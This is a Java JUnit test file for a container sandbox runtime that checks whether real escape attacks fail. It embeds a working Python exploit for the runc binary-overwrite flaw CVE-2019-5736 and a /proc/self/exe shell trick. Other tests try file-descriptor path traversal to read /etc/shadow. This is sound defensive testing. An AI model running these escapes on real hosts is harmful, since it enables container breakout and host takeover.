package ai.vibengine.server.runtime.oci;

import static org.assertj.core.api.Assertions.assertThat;

import ai.vibengine.server.runtime.BuildSpec;
import ai.vibengine.server.runtime.LayerBuild;
import ai.vibengine.server.runtime.SandboxImage;
import ai.vibengine.server.runtime.SandboxLimits;
import ai.vibengine.server.runtime.SandboxRuntime;
import ai.vibengine.server.runtime.oci.image.FileTree;
import ai.vibengine.server.runtime.removal.TreeRemoval;
import java.math.BigInteger;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.jspecify.annotations.NullMarked;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Known ways out of containers through the runtime that starts processes in them, tried for real. */
@NullMarked
class EscapeTest {

    private static final SandboxLimits LIMITS = new SandboxLimits(256 << 20, 1, 64);
    private static final Duration DEADLINE = Duration.ofSeconds(60);

    /**
     * Waits for a process that runs a program from outside, holds on to that program and, as soon as the process lets go of it, writes over
     * it: CVE-2019-5736. Ends when it has written or when half a minute is over, and leaves what it did in a file.
     */
    private static final String OVERWRITE = """
        import glob, os, re, sys, time
        def tell(what):
            with open("/opt/told", "a") as told: told.write(what + "\\n")
        held, seen = set(), set()
        end = time.time() + float(sys.argv[1])
        open("/opt/waiting", "w").close()
        while time.time() < end:
            for exe in glob.glob("/proc/[0-9]*/exe"):
                try:
                    target = os.readlink(exe)
                    if not re.match(sys.argv[2], target): continue
                    held.add(os.open(exe, os.O_RDONLY))
                    if target not in seen: tell("held " + target)
                    seen.add(target)
                except OSError as refusal:
                    if refusal.errno == 13 and exe not in seen: tell("refused " + exe)
                    seen.add(exe)
            for fd in list(held):
                try:
                    writer = os.open("/proc/self/fd/%d" % fd, os.O_WRONLY)
                    os.write(writer, b"#!/bin/false")
                    tell("written")
                    sys.exit()
                except OSError: pass
        """;

    @TempDir
    Path data;

    private final List<String> output = Collections.synchronizedList(new ArrayList<>());

    @Test
    void theRuntimesProgramIsNotOverwrittenByTheRootOfABuild() throws Exception {
        Assumptions.assumeFalse(UserNamespace.isEntered(), "a build of an ordinary user does not change the shell");
        Path copy = data.resolve("runtime-under-attack");
        Files.copy(Prerequisites.check("runc"), copy);
        Files.setPosixFilePermissions(copy, FileTree.OWNER_ONLY);
        String before = digest(copy);
        try (SandboxRuntime runtime = new OciRuntime(new OciSettings(data.resolve("server"), copy.toString()))) {
            runtime.adopt(Set.of());
            try (LayerBuild build = open(runtime)) {
                run(build, "cat > /opt/overwrite.py <<'END'\n" + OVERWRITE + "END");
                run(
                        build,
                        "python3 /opt/overwrite.py 60 '(?!/usr/|/opt/)' >/dev/null 2>&1 & until test -e /opt/waiting;"
                                + " do sleep 0.05; done");
                // A shell that makes the process that starts it start itself again, within the container.
                run(
                        build,
                        "cp /bin/sh /opt/sh && rm /usr/bin/dash && printf '#!/proc/self/exe\\n' > /usr/bin/dash"
                                + " && chmod 755 /usr/bin/dash");
                for (int i = 0; i < 5; i++) {
                    run(build, "true");
                }
                build.keep("attack");
            }
            // A process that lies in wait for the next step is ended with its own.
            assertThat(data.resolve("server/containers/layers/attack/root/opt/waiting"))
                    .exists();
            // It has seen the agent, and nothing more of it.
            assertThat(Files.readAllLines(data.resolve("server/containers/layers/attack/root/opt/told")))
                    .isNotEmpty()
                    .allMatch(line -> line.startsWith("refused /proc/"));
        } finally {
            TreeRemoval.remove(data.resolve("server"));
        }

        assertThat(digest(copy)).isEqualTo(before);
    }

    @Test
    void whatOverwritesProgramsWorksOnOneThatNothingProtects() throws Exception {
        try (SandboxRuntime runtime = new OciRuntime(new OciSettings(data.resolve("server"), "runc"))) {
            runtime.adopt(Set.of());
            try (LayerBuild build = open(runtime)) {
                run(build, "cat > /opt/overwrite.py <<'END'\n" + OVERWRITE + "END");
                run(
                        build,
                        "cp $(readlink -f /usr/bin/sleep) /opt/victim && { python3 /opt/overwrite.py 30 /opt/victim &"
                                + " } && until test -e /opt/waiting; do sleep 0.05; done; /opt/victim 0.5; wait; cat"
                                + " /opt/told");
            }
        } finally {
            TreeRemoval.remove(data.resolve("server"));
        }

        assertThat(output).contains("written");
    }

    @Test
    void noDescriptorOfTheRuntimeIsAWayOut() throws Exception {
        OciRuntimeFixture fixture = new OciRuntimeFixture(data);
        try {
            Inside sandbox = fixture.start();
            String state = data.resolve("containers/state").toString();
            for (int fd = 3; fd < 24; fd++) {
                for (String way :
                        List.of("/proc/self/fd/" + fd, "/proc/1/fd/" + fd, "/proc/self/fd/" + fd + "/../../..")) {
                    Inside.Result result = Inside.run(List.of(
                            "runc",
                            "--root",
                            state,
                            "exec",
                            "--cwd",
                            way,
                            sandbox.sandboxId(),
                            "cat",
                            "../../../../../../../.." + data + "/containers/lock",
                            "etc/shadow",
                            "../../../etc/machine-id"));
                    assertThat(result.status()).as(way).isNotZero();
                    assertThat(result.output()).as(way).doesNotContain("root:");
                }
            }
        } finally {
            fixture.close();
        }
    }

    @Test
    void aProcessHoldsNothingThatItWasNotGiven() throws Exception {
        OciRuntimeFixture fixture = new OciRuntimeFixture(data);
        String list = "exec python3 -c 'import os; print([os.readlink(\"/proc/self/fd/%s\" % n) for n in"
                + " sorted(os.listdir(\"/proc/self/fd\")) if int(n) > 2 and os.path.exists(\"/proc/self/fd/%s\" %"
                + " n)])'";
        try {
            assertThat(fixture.start().output(list)).isEqualTo("[]");
            try (LayerBuild build = open(fixture.runtime)) {
                run(build, list);
            }
            assertThat(output).containsExactly("[]");
        } finally {
            fixture.close();
        }
    }

    @Test
    void theRootOfABuildReadsNoneOfTheKernelsOwnFiles() throws Exception {
        OciRuntimeFixture fixture = new OciRuntimeFixture(data);
        try (LayerBuild build = open(fixture.runtime)) {
            run(
                    build,
                    "for file in $(find /proc -maxdepth 1 -type f ! -perm -004); do"
                            + " head -c 8 $file | wc -c | sed \"s|^0$||; s|^[0-9].*|$file|\"; done | grep .; echo looked");
        } finally {
            fixture.close();
        }

        assertThat(output).containsExactly("looked");
    }

    private void run(LayerBuild build, String command) {
        // The status tells nothing: an attack may well make the runtime itself fail.
        int unused = build.run(command, Map.of(), null, DEADLINE, (channel, line) -> output.add(line));
    }

    private static LayerBuild open(SandboxRuntime runtime) {
        return runtime.builder()
                .open(new BuildSpec(OciRuntimeFixture.newId(), SandboxImage.builtIn(), LIMITS, BuildSpec.Network.NONE));
    }

    private static String digest(Path file) throws Exception {
        byte[] digest = MessageDigest.getInstance("SHA-256").digest(Files.readAllBytes(file));
        return new BigInteger(1, digest).toString(16);
    }
}
